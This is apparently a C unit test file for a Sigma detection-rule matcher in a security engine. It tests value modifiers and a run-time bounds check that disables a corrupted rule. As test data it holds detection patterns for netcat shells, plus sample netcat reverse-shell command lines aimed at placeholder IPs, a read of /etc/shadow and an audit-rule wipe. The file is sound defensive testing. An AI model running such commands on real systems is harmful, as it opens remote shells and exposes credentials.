/*
 * The Sigma matcher: every value modifier and value form, each with events
 * that must match and events that must not, built as real rw_events and
 * run through ruleset__match(); and the run-time bounds check: an item
 * whose field id is out of range disables its rule and is counted.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "testlib.h"

#include "common/event.h"
#include "engine/ruleset.h"
#include "engine/sigma.h"

/* ---- helpers ---- */

/* A rule of category cat whose detection block is det (already indented
 * by four spaces). Fails the test when it does not load. Caller frees. */
static struct ruleset *rule_opts(const char *cat, const char *det, const struct ruleset_opts *o)
{
	char buf[8192];
	struct diag d;
	struct ruleset *rs;

	snprintf(buf, sizeof(buf),
		 "title: test rule\n"
		 "id: 11111111-2222-4333-8444-555555555555\n"
		 "author: Test Author\n"
		 "logsource:\n"
		 "    product: linux\n"
		 "    category: %s\n"
		 "detection:\n"
		 "%s"
		 "level: high\n", cat, det);
	diag__init(&d);
	rs = ruleset__load_buffer("test.yml", buf, strlen(buf), o, &d);
	if (!rs)
		diag__print(&d, stderr);
	assert_non_null(rs);
	assert_int_equal(d.n_errors, 0);
	diag__free(&d);
	return rs;
}

static struct ruleset *rule(const char *cat, const char *det)
{
	return rule_opts(cat, det, NULL);
}

/* A process_creation event with image and command line (either may be
 * NULL: absent). */
static struct rw_event *exec_ev(const char *image, const char *cmd)
{
	struct rw_event *ev = rw_event__new();

	assert_non_null(ev);
	assert_int_equal(rw_event__set_cstr(ev, RW_F_EVENT_ACTION, "exec"), 0);
	if (image)
		assert_int_equal(rw_event__set_cstr(ev, RW_F_PROC_EXECUTABLE, image), 0);
	if (cmd)
		assert_int_equal(rw_event__set_cstr(ev, RW_F_PROC_COMMAND_LINE, cmd), 0);
	return ev;
}

static int hits(const struct ruleset *rs, const struct rw_event *ev)
{
	int n = ruleset__match(rs, ev, NULL, NULL);

	assert_true(n >= 0);
	return n;
}

/* Does a rule on process_creation with detection det match the command
 * line cmd (image /bin/x)? */
static int cmd_hits(const char *det, const char *cmd)
{
	struct ruleset *rs = rule("process_creation", det);
	struct rw_event *ev = exec_ev("/bin/x", cmd);
	int n = hits(rs, ev);

	free(ev);
	ruleset__free(rs);
	return n;
}

/* The same with a command line of explicit length (NUL bytes inside). */
static int cmd_hits_n(const char *det, const char *cmd, size_t len)
{
	struct ruleset *rs = rule("process_creation", det);
	struct rw_event *ev = exec_ev("/bin/x", NULL);
	int n;

	assert_int_equal(rw_event__set_str(ev, RW_F_PROC_COMMAND_LINE, cmd, len), 0);
	n = hits(rs, ev);
	free(ev);
	ruleset__free(rs);
	return n;
}

#define SEL(x) "    sel:\n        " x "\n    condition: sel\n"

/* ---- plain values, lists, maps ---- */

static void test_equal_case_insensitive(void **state)
{
	struct ruleset *rs = rule("process_creation", SEL("Image: '/usr/bin/NC'"));
	struct rw_event *yes = exec_ev("/usr/bin/nc", "nc"), *yes2 = exec_ev("/USR/BIN/nc", NULL);
	struct rw_event *no = exec_ev("/usr/bin/ncat", "nc"), *no2 = exec_ev("/usr/bin/n", NULL);
	struct rw_event *absent = exec_ev(NULL, "nc");

	assert_int_equal(hits(rs, yes), 1);
	assert_int_equal(hits(rs, yes2), 1);
	assert_int_equal(hits(rs, no), 0);
	assert_int_equal(hits(rs, no2), 0);
	assert_int_equal(hits(rs, absent), 0);
	free(yes);
	free(yes2);
	free(no);
	free(no2);
	free(absent);
	ruleset__free(rs);
}

static void test_contains_startswith_endswith(void **state)
{
	assert_int_equal(cmd_hits(SEL("CommandLine|contains: 'WGET '"), "sh -c wget http://x"), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine|contains: 'wget '"), "sh -c curl http://x"), 0);
	assert_int_equal(cmd_hits(SEL("CommandLine|startswith: 'sh -c'"), "sh -c id"), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine|startswith: 'sh -c'"), "bash sh -c id"), 0);
	assert_int_equal(cmd_hits(SEL("CommandLine|endswith: '/etc/shadow'"), "cat /etc/SHADOW"), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine|endswith: '/etc/shadow'"), "cat /etc/shadow-"), 0);
	/* a value longer than the field never matches, nor reads past it */
	assert_int_equal(cmd_hits(SEL("CommandLine|endswith: 'a much longer value'"), "value"), 0);
	assert_int_equal(cmd_hits(SEL("CommandLine|contains: 'xyz'"), ""), 0);
}

static void test_list_is_or_all_is_and(void **state)
{
	const char *or_det = SEL("Image|endswith: ['/nc', '/ncat']");
	const char *and_det = SEL("CommandLine|contains|all: [' -e ', '/bin/sh']");
	struct ruleset *rs = rule("process_creation", or_det);
	struct rw_event *a = exec_ev("/usr/bin/nc", NULL), *b = exec_ev("/usr/bin/ncat", NULL);
	struct rw_event *c = exec_ev("/usr/bin/socat", NULL);

	assert_int_equal(hits(rs, a), 1);
	assert_int_equal(hits(rs, b), 1);
	assert_int_equal(hits(rs, c), 0);
	ruleset__free(rs);
	free(a);
	free(b);
	free(c);
	assert_int_equal(cmd_hits(and_det, "nc 1.2.3.4 80 -e /bin/sh"), 1);
	assert_int_equal(cmd_hits(and_det, "nc 1.2.3.4 80 -e /bin/bash"), 0);
	assert_int_equal(cmd_hits(and_det, "sh /bin/sh"), 0);
}

static void test_map_is_and_list_of_maps_is_or(void **state)
{
	const char *map = "    sel:\n        Image|endswith: '/nc'\n        CommandLine|contains: ' -e '\n"
			  "    condition: sel\n";
	const char *maps = "    sel:\n        - Image|endswith: '/nc'\n        - CommandLine|contains: ' -e '\n"
			   "    condition: sel\n";
	struct ruleset *rs = rule("process_creation", map), *rs2 = rule("process_creation", maps);
	struct rw_event *both = exec_ev("/bin/nc", "nc -e sh"), *img = exec_ev("/bin/nc", "nc -l");
	struct rw_event *cmd = exec_ev("/bin/ncat", "ncat -e sh"), *none = exec_ev("/bin/ls", "ls");

	assert_int_equal(hits(rs, both), 1);
	assert_int_equal(hits(rs, img), 0);
	assert_int_equal(hits(rs, cmd), 0);
	assert_int_equal(hits(rs2, both), 1);
	assert_int_equal(hits(rs2, img), 1);
	assert_int_equal(hits(rs2, cmd), 1);
	assert_int_equal(hits(rs2, none), 0);
	ruleset__free(rs);
	ruleset__free(rs2);
	free(both);
	free(img);
	free(cmd);
	free(none);
}

/* ---- wildcards and escapes ---- */

static void test_wildcards(void **state)
{
	assert_int_equal(cmd_hits(SEL("CommandLine: 'nc * -e *'"), "nc 10.0.0.1 4444 -e /bin/sh"), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine: 'nc * -e *'"), "nc 10.0.0.1 4444 -l"), 0);
	assert_int_equal(cmd_hits(SEL("CommandLine: 'nc -?'"), "nc -e"), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine: 'nc -?'"), "nc -"), 0);
	assert_int_equal(cmd_hits(SEL("CommandLine: 'nc -?'"), "nc -ee"), 0);
	/* '?' is one character, also a multi-byte one */
	assert_int_equal(cmd_hits(SEL("CommandLine: 'caf?'"), "caf\xc3\xa9"), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine: 'caf?'"), "caf\xc3\xa9s"), 0);
	/* a wildcard inside contains */
	assert_int_equal(cmd_hits(SEL("CommandLine|contains: '/etc/*.conf'"), "vi /etc/x/y.conf -n"), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine|contains: '/etc/*.conf'"), "vi /etc/x/y.cfg"), 0);
	/* '*' alone: any value of a present field */
	assert_int_equal(cmd_hits(SEL("CommandLine: '*'"), ""), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine: '*'"), NULL), 0);
	/* backtracking over several stars */
	assert_int_equal(cmd_hits(SEL("CommandLine: '*a*b*c'"), "xaxbxaxbxc"), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine: '*a*b*c'"), "xaxbxaxbxcx"), 0);
}

static void test_escapes(void **state)
{
	/* \* and \? are the literal characters */
	assert_int_equal(cmd_hits(SEL("CommandLine: 'echo \\*'"), "echo *"), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine: 'echo \\*'"), "echo x"), 0);
	assert_int_equal(cmd_hits(SEL("CommandLine: 'what\\?'"), "what?"), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine: 'what\\?'"), "whats"), 0);
	/* \\ is one backslash; then * is a wildcard again */
	assert_int_equal(cmd_hits(SEL("CommandLine: 'C:\\\\*'"), "C:\\Windows"), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine: 'C:\\\\*'"), "C:/Windows"), 0);
	/* a backslash before anything else is itself */
	assert_int_equal(cmd_hits(SEL("CommandLine: 'a\\b'"), "a\\b"), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine: 'a\\b'"), "ab"), 0);
}

static void test_cased(void **state)
{
	assert_int_equal(cmd_hits(SEL("CommandLine|cased: 'ABC'"), "ABC"), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine|cased: 'ABC'"), "abc"), 0);
	assert_int_equal(cmd_hits(SEL("CommandLine|contains|cased: ' -O '"), "wget -O x"), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine|contains|cased: ' -O '"), "wget -o x"), 0);
}

/* ---- re ---- */

static void test_re(void **state)
{
	/* case-sensitive unless |i, unanchored unless anchored */
	assert_int_equal(cmd_hits(SEL("CommandLine|re: 'nc .*-e'"), "/bin/nc 1.2.3.4 -e sh"), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine|re: 'nc .*-e'"), "/bin/NC 1.2.3.4 -E sh"), 0);
	assert_int_equal(cmd_hits(SEL("CommandLine|re|i: 'nc .*-e'"), "/bin/NC 1.2.3.4 -E sh"), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine|re: '^nc'"), "/bin/nc"), 0);
	/* m: ^ and $ at line breaks */
	assert_int_equal(cmd_hits(SEL("CommandLine|re|m: '^id$'"), "a\nid\nb"), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine|re: '^id$'"), "a\nid\nb"), 0);
	/* s: . matches a newline */
	assert_int_equal(cmd_hits(SEL("CommandLine|re|s: 'a.b'"), "a\nb"), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine|re: 'a.b'"), "a\nb"), 0);
	/* several flags, and a regex matching the empty string */
	assert_int_equal(cmd_hits(SEL("CommandLine|re|i|s: '^A.B$'"), "a\nb"), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine|re: '^$'"), ""), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine|re: '^$'"), "x"), 0);
	/* the corpus' auditctl rule: -D case-sensitively */
	assert_int_equal(cmd_hits(SEL("CommandLine|re: '-D'"), "auditctl -D"), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine|re: '-D'"), "auditctl -d"), 0);
}

/* ---- cidr ---- */

static void test_cidr(void **state)
{
	const char *det = SEL("DestinationIp|cidr: ['10.0.0.0/8', 'fd00::/8', '192.168.1.7']");
	struct ruleset *rs = rule("network_connection", det);
	static const struct {
		const char *ip;
		int want;
	} cases[] = {
		{ "10.1.2.3", 1 }, { "11.1.2.3", 0 }, { "fd12::1", 1 }, { "fe80::1", 0 },
		{ "::ffff:10.9.9.9", 1 }, { "192.168.1.7", 1 }, { "192.168.1.8", 0 },
		{ "not an ip", 0 }, { "", 0 },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct rw_event *ev = rw_event__new();

		rw_event__set_cstr(ev, RW_F_EVENT_ACTION, "connect");
		rw_event__set_cstr(ev, RW_F_DEST_IP, cases[i].ip);
		if (hits(rs, ev) != cases[i].want)
			fail_msg("cidr: %s should give %d", cases[i].ip, cases[i].want);
		free(ev);
	}
	ruleset__free(rs);
}

/* ---- encodings ---- */

static void test_base64(void **state)
{
	/* base64('ping') = cGluZw== ; base64 text is matched case-sensitively */
	assert_int_equal(cmd_hits(SEL("CommandLine|base64|contains: 'ping'"), "echo cGluZw== | base64 -d"), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine|base64|contains: 'ping'"), "echo CGLUZW== | base64 -d"), 0);
	assert_int_equal(cmd_hits(SEL("CommandLine|base64: 'ping'"), "cGluZw=="), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine|base64: 'ping'"), "x cGluZw=="), 0);
}

static void test_base64offset(void **state)
{
	const char *det = SEL("CommandLine|base64offset|contains: 'http://'");

	/* base64 of "http://x" (offset 0), "GET http://x" (offset 4, i.e. 1),
	 * "Xhttp://x" ... each encoded in full */
	assert_int_equal(cmd_hits(det, "echo aHR0cDovL3g= | base64 -d"), 1);	/* http://x */
	assert_int_equal(cmd_hits(det, "echo R0VUIGh0dHA6Ly94 | base64 -d"), 1);	/* GET http://x */
	assert_int_equal(cmd_hits(det, "echo WFhodHRwOi8veA== | base64 -d"), 1);	/* XXhttp://x */
	assert_int_equal(cmd_hits(det, "echo aHR0cHM6Ly94 | base64 -d"), 0);	/* https://x */
}

static void test_utf16(void **state)
{
	/* wide/utf16le: 'cmd' -> 63 00 6d 00 64 00; base64 of that: YwBtAGQA */
	assert_int_equal(cmd_hits(SEL("CommandLine|wide|base64offset|contains: 'cmd'"), "-enc YwBtAGQA"), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine|utf16le|base64|contains: 'cmd'"), "-enc YwBtAGQA"), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine|utf16le|base64|contains: 'cmd'"), "-enc Y21k"), 0);
	/* raw UTF-16 bytes in the field */
	assert_int_equal(cmd_hits_n(SEL("CommandLine|utf16le|contains: 'ab'"), "xa\0b\0y", 6), 1);
	assert_int_equal(cmd_hits_n(SEL("CommandLine|utf16le|contains: 'ab'"), "x\0a\0by", 6), 0);
	assert_int_equal(cmd_hits_n(SEL("CommandLine|utf16be|contains: 'ab'"), "x\0a\0by", 6), 1);
	assert_int_equal(cmd_hits_n(SEL("CommandLine|utf16be|contains: 'ab'"), "xa\0b\0y", 6), 0);
	/* utf16: byte order mark FF FE, then little-endian */
	assert_int_equal(cmd_hits_n(SEL("CommandLine|utf16|startswith: 'a'"), "\xff\xfe" "a\0z", 5), 1);
	assert_int_equal(cmd_hits_n(SEL("CommandLine|utf16|startswith: 'a'"), "a\0z", 3), 0);
	/* a character outside the BMP becomes a surrogate pair: U+1F600 */
	assert_int_equal(cmd_hits_n(SEL("CommandLine|utf16le|contains: \"\\U0001F600\""),
				    "\x3d\xd8\x00\xde", 4), 1);
}

static void test_windash(void **state)
{
	const char *det = SEL("CommandLine|windash|contains: ' -exec '");

	assert_int_equal(cmd_hits(det, "find . -exec sh"), 1);
	assert_int_equal(cmd_hits(det, "find . /exec sh"), 1);
	assert_int_equal(cmd_hits(det, "find . \xe2\x80\x93" "exec sh"), 1);	/* en dash */
	assert_int_equal(cmd_hits(det, "find . \xe2\x80\x94" "exec sh"), 1);	/* em dash */
	assert_int_equal(cmd_hits(det, "find . \xe2\x80\x95" "exec sh"), 1);	/* horizontal bar */
	assert_int_equal(cmd_hits(det, "find . +exec sh"), 0);
	/* a dash inside a word is not a flag and is not varied */
	assert_int_equal(cmd_hits(SEL("CommandLine|windash: 'a-b'"), "a/b"), 0);
	assert_int_equal(cmd_hits(SEL("CommandLine|windash: 'a-b'"), "a-b"), 1);
}

/* ---- exists, neq, numbers, null ---- */

static void test_exists(void **state)
{
	assert_int_equal(cmd_hits(SEL("CommandLine|exists: true"), "x"), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine|exists: true"), ""), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine|exists: true"), NULL), 0);
	assert_int_equal(cmd_hits(SEL("CommandLine|exists: false"), NULL), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine|exists: false"), "x"), 0);
}

static void test_neq(void **state)
{
	const char *det = SEL("CommandLine|neq: ['root', 'admin']");

	assert_int_equal(cmd_hits(det, "bob"), 1);
	assert_int_equal(cmd_hits(det, "ROOT"), 0);
	assert_int_equal(cmd_hits(det, "admin"), 0);
	assert_int_equal(cmd_hits(det, NULL), 0);	/* absent is not "different" */
	assert_int_equal(cmd_hits(SEL("CommandLine|neq|contains: 'x'"), "abc"), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine|neq|contains: 'x'"), "axc"), 0);
}

static struct rw_event *pid_ev(int64_t pid, const char *login)
{
	struct rw_event *ev = exec_ev("/bin/x", "x");

	rw_event__set_int(ev, RW_F_PROC_PID, pid);
	if (login)
		rw_event__set_cstr(ev, RW_F_RW_LOGIN_UID, login);
	return ev;
}

static int pid_hits(const char *det, int64_t pid, const char *login)
{
	struct ruleset *rs = rule("process_creation", det);
	struct rw_event *ev = pid_ev(pid, login);
	int n = hits(rs, ev);

	free(ev);
	ruleset__free(rs);
	return n;
}

static void test_numeric(void **state)
{
	/* numbers against an INT field */
	assert_int_equal(pid_hits(SEL("ProcessId: 1234"), 1234, NULL), 1);
	assert_int_equal(pid_hits(SEL("ProcessId: 1234"), 12345, NULL), 0);
	assert_int_equal(pid_hits(SEL("ProcessId: '1234'"), 1234, NULL), 1);
	assert_int_equal(pid_hits(SEL("ProcessId: '12*'"), 1299, NULL), 1);
	assert_int_equal(pid_hits(SEL("ProcessId: '12*'"), 1399, NULL), 0);
	assert_int_equal(pid_hits(SEL("ProcessId: 0x10"), 16, NULL), 1);
	assert_int_equal(pid_hits(SEL("ProcessId|gt: 100"), 101, NULL), 1);
	assert_int_equal(pid_hits(SEL("ProcessId|gt: 100"), 100, NULL), 0);
	assert_int_equal(pid_hits(SEL("ProcessId|gte: 100"), 100, NULL), 1);
	assert_int_equal(pid_hits(SEL("ProcessId|gte: 100"), 99, NULL), 0);
	assert_int_equal(pid_hits(SEL("ProcessId|lt: 100"), 99, NULL), 1);
	assert_int_equal(pid_hits(SEL("ProcessId|lt: 100"), 100, NULL), 0);
	assert_int_equal(pid_hits(SEL("ProcessId|lte: -5"), -5, NULL), 1);
	assert_int_equal(pid_hits(SEL("ProcessId|lte: -5"), -4, NULL), 0);
	/* a number against a string field holding digits (LogonId) */
	assert_int_equal(pid_hits(SEL("LogonId: 0"), 1, "0"), 1);
	assert_int_equal(pid_hits(SEL("LogonId: 0"), 1, "1000"), 0);
	assert_int_equal(pid_hits(SEL("LogonId|gte: 1000"), 1, "1000"), 1);
	assert_int_equal(pid_hits(SEL("LogonId|gte: 1000"), 1, "999"), 0);
	assert_int_equal(pid_hits(SEL("LogonId|gte: 1000"), 1, "abc"), 0);
	assert_int_equal(pid_hits(SEL("LogonId|gte: 1000"), 1, NULL), 0);
}

static void test_null_and_empty(void **state)
{
	assert_int_equal(cmd_hits(SEL("CommandLine: null"), NULL), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine: null"), ""), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine: null"), "x"), 0);
	assert_int_equal(cmd_hits(SEL("CommandLine: ''"), ""), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine: ''"), NULL), 0);
	assert_int_equal(cmd_hits(SEL("CommandLine: ''"), "x"), 0);
	/* null in a list is one more alternative */
	assert_int_equal(cmd_hits(SEL("CommandLine: [null, 'x']"), "x"), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine: [null, 'x']"), NULL), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine: [null, 'x']"), "y"), 0);
	/* YAML booleans and numbers against a string field: their text */
	assert_int_equal(cmd_hits(SEL("CommandLine: true"), "TRUE"), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine: 12"), "12"), 1);
	assert_int_equal(cmd_hits(SEL("CommandLine: 12"), "012"), 0);
}

/* ---- fieldref, expand ---- */

static void test_fieldref(void **state)
{
	struct ruleset *eq = rule("process_creation", SEL("ParentImage|fieldref: Image"));
	struct ruleset *ends = rule("process_creation", SEL("CommandLine|fieldref|endswith: Image"));
	struct rw_event *a = exec_ev("/bin/sh", "exec /BIN/SH"), *b = exec_ev("/bin/sh", "exec /bin/ls");

	rw_event__set_cstr(a, RW_F_PARENT_EXECUTABLE, "/bin/SH");
	rw_event__set_cstr(b, RW_F_PARENT_EXECUTABLE, "/bin/bash");
	assert_int_equal(hits(eq, a), 1);
	assert_int_equal(hits(eq, b), 0);
	assert_int_equal(hits(ends, a), 1);
	assert_int_equal(hits(ends, b), 0);
	free(a);
	free(b);
	ruleset__free(eq);
	ruleset__free(ends);
}

static void test_expand(void **state)
{
	struct placeholders ph = { 0 };
	struct ruleset_opts o = { .placeholders = &ph };
	struct ruleset *rs;
	struct rw_event *a = exec_ev("/bin/x", "run nc now"), *b = exec_ev("/bin/x", "run ncat now");
	struct rw_event *c = exec_ev("/bin/x", "run socat now"), *d = exec_ev("/bin/x", "%tool%");

	assert_int_equal(placeholders__add(&ph, "tool", "nc"), 0);
	assert_int_equal(placeholders__add(&ph, "tool", "nc?t"), 0);
	rs = rule_opts("process_creation", SEL("CommandLine|expand|contains: ' %tool% '"), &o);
	assert_int_equal(hits(rs, a), 1);
	assert_int_equal(hits(rs, b), 1);
	assert_int_equal(hits(rs, c), 0);
	assert_int_equal(hits(rs, d), 0);
	ruleset__free(rs);
	/* without expand the placeholder is literal text */
	rs = rule("process_creation", SEL("CommandLine: '%tool%'"));
	assert_int_equal(hits(rs, d), 1);
	assert_int_equal(hits(rs, a), 0);
	ruleset__free(rs);
	/* \% is a plain percent sign */
	rs = rule_opts("process_creation", SEL("CommandLine|expand: '\\%tool%'"), &o);
	assert_int_equal(hits(rs, d), 1);
	ruleset__free(rs);
	placeholders__free(&ph);
	free(a);
	free(b);
	free(c);
	free(d);
}

/* ---- derived and list fields, categories ---- */

static void test_initiated_and_categories(void **state)
{
	struct ruleset *rs = rule("network_connection",
				  "    sel:\n        Initiated: 'true'\n        DestinationPort: 4444\n"
				  "    condition: sel\n");
	struct rw_event *ev = rw_event__new();

	rw_event__set_cstr(ev, RW_F_EVENT_ACTION, "connect");
	rw_event__set_int(ev, RW_F_DEST_PORT, 4444);
	assert_int_equal(hits(rs, ev), 1);
	rw_event__set_cstr(ev, RW_F_EVENT_ACTION, "accept");
	assert_int_equal(hits(rs, ev), 0);
	/* an exec event is not a network_connection */
	rw_event__set_cstr(ev, RW_F_EVENT_ACTION, "exec");
	assert_int_equal(hits(rs, ev), 0);
	/* no action: no category, no evaluation */
	rw_event__unset(ev, RW_F_EVENT_ACTION);
	assert_int_equal(hits(rs, ev), 0);
	ruleset__free(rs);
	rs = rule("network_connection", SEL("Initiated: false"));
	rw_event__set_cstr(ev, RW_F_EVENT_ACTION, "accept");
	assert_int_equal(hits(rs, ev), 1);
	ruleset__free(rs);
	free(ev);
}

static void test_pipe_and_list_fields(void **state)
{
	struct ruleset *rs = rule("pipe_created",
				  "    sel:\n        PipeName|startswith: '/tmp/'\n        EventType: CreatePipe\n"
				  "    condition: sel\n");
	struct ruleset *dns = rule("dns_query", SEL("QueryResults|cidr: '203.0.113.0/24'"));
	struct rw_event *ev = rw_event__new();

	rw_event__set_cstr(ev, RW_F_EVENT_ACTION, "pipe-create");
	rw_event__set_cstr(ev, RW_F_FILE_PATH, "/tmp/f");
	assert_int_equal(hits(rs, ev), 1);
	rw_event__set_cstr(ev, RW_F_EVENT_ACTION, "pipe-open");
	assert_int_equal(hits(rs, ev), 0);
	rw_event__reset(ev);
	rw_event__set_cstr(ev, RW_F_EVENT_ACTION, "dns-answer");
	rw_event__add_strv(ev, RW_F_DNS_RESOLVED_IP, "198.51.100.1", 12);
	rw_event__add_strv(ev, RW_F_DNS_RESOLVED_IP, "203.0.113.9", 11);
	assert_int_equal(hits(dns, ev), 1);
	rw_event__reset(ev);
	rw_event__set_cstr(ev, RW_F_EVENT_ACTION, "dns-answer");
	rw_event__add_strv(ev, RW_F_DNS_RESOLVED_IP, "198.51.100.1", 12);
	assert_int_equal(hits(dns, ev), 0);
	ruleset__free(rs);
	ruleset__free(dns);
	free(ev);
}

/* ---- the run-time bounds check ---- */

struct seen {
	int n;
	const char *id;
};

static int on_match(const struct rule_info *ri, const struct rw_event *ev, void *ctx)
{
	struct seen *s = ctx;

	s->n++;
	s->id = ri->id;
	return 0;
}

static void test_out_of_range_field_disables_rule(void **state)
{
	const char *text =
		"title: a\nid: 00000000-0000-4000-8000-00000000000a\n"
		"logsource: {product: linux, category: process_creation}\n"
		"detection: {sel: {Image|endswith: /nc}, condition: sel}\n"
		"---\n"
		"title: b\nid: 00000000-0000-4000-8000-00000000000b\n"
		"logsource: {product: linux, category: process_creation}\n"
		"detection: {sel: {Image|endswith: /nc}, condition: sel}\n";
	struct diag d;
	struct ruleset *rs;
	struct ruleset_stats st;
	struct rw_event *ev = exec_ev("/bin/nc", NULL);
	struct seen s = { 0 };
	struct rule *r;

	diag__init(&d);
	rs = ruleset__load_buffer("two.yml", text, strlen(text), NULL, &d);
	assert_non_null(rs);
	assert_int_equal(ruleset__count(rs), 2);
	assert_int_equal(ruleset__match(rs, ev, on_match, &s), 2);
	/* corrupt rule a the way Channel File 291 did: a field index past
	 * what the sensor supplies */
	r = ruleset__compiled(rs, 0);
	assert_string_equal(r->id, "00000000-0000-4000-8000-00000000000a");
	r->items[0].ecs = RW_F__COUNT + 20;
	s.n = 0;
	assert_int_equal(ruleset__match(rs, ev, on_match, &s), 1);
	assert_int_equal(s.n, 1);
	assert_string_equal(s.id, "00000000-0000-4000-8000-00000000000b");
	ruleset__stats(rs, &st);
	assert_int_equal(st.disabled_oob, 1);
	/* disabled stays disabled, and is counted once */
	assert_int_equal(ruleset__match(rs, ev, NULL, NULL), 1);
	ruleset__stats(rs, &st);
	assert_int_equal(st.disabled_oob, 1);
	assert_int_equal(st.matches, 4);
	free(ev);
	ruleset__free(rs);

	/* the same for a Sigma field index and a pattern range */
	rs = ruleset__load_buffer("two.yml", text, strlen(text), NULL, &d);
	ev = exec_ev("/bin/nc", NULL);
	ruleset__compiled(rs, 0)->items[0].field = 60000;
	ruleset__compiled(rs, 1)->groups[0].n_pats = 1000;
	assert_int_equal(ruleset__match(rs, ev, NULL, NULL), 0);
	ruleset__stats(rs, &st);
	assert_int_equal(st.disabled_oob, 2);
	free(ev);
	ruleset__free(rs);
	diag__free(&d);
}

static void test_bad_event_value_is_absent(void **state)
{
	struct ruleset *rs = rule("process_creation", SEL("Image|endswith: /nc"));
	struct rw_event *ev = exec_ev("/bin/nc", NULL);
	struct ruleset_stats st;

	assert_int_equal(hits(rs, ev), 1);
	/* a value claiming to lie past the arena is treated as absent */
	ev->v[RW_F_PROC_EXECUTABLE].off = RW_EVENT_ARENA - 2;
	ev->v[RW_F_PROC_EXECUTABLE].len = 10;
	assert_int_equal(hits(rs, ev), 0);
	ruleset__stats(rs, &st);
	assert_int_equal(st.bad_values, 1);
	assert_int_equal(st.disabled_oob, 0);
	free(ev);
	ruleset__free(rs);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_equal_case_insensitive),
		cmocka_unit_test(test_contains_startswith_endswith),
		cmocka_unit_test(test_list_is_or_all_is_and),
		cmocka_unit_test(test_map_is_and_list_of_maps_is_or),
		cmocka_unit_test(test_wildcards),
		cmocka_unit_test(test_escapes),
		cmocka_unit_test(test_cased),
		cmocka_unit_test(test_re),
		cmocka_unit_test(test_cidr),
		cmocka_unit_test(test_base64),
		cmocka_unit_test(test_base64offset),
		cmocka_unit_test(test_utf16),
		cmocka_unit_test(test_windash),
		cmocka_unit_test(test_exists),
		cmocka_unit_test(test_neq),
		cmocka_unit_test(test_numeric),
		cmocka_unit_test(test_null_and_empty),
		cmocka_unit_test(test_fieldref),
		cmocka_unit_test(test_expand),
		cmocka_unit_test(test_initiated_and_categories),
		cmocka_unit_test(test_pipe_and_list_fields),
		cmocka_unit_test(test_out_of_range_field_disables_rule),
		cmocka_unit_test(test_bad_event_value_is_absent),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
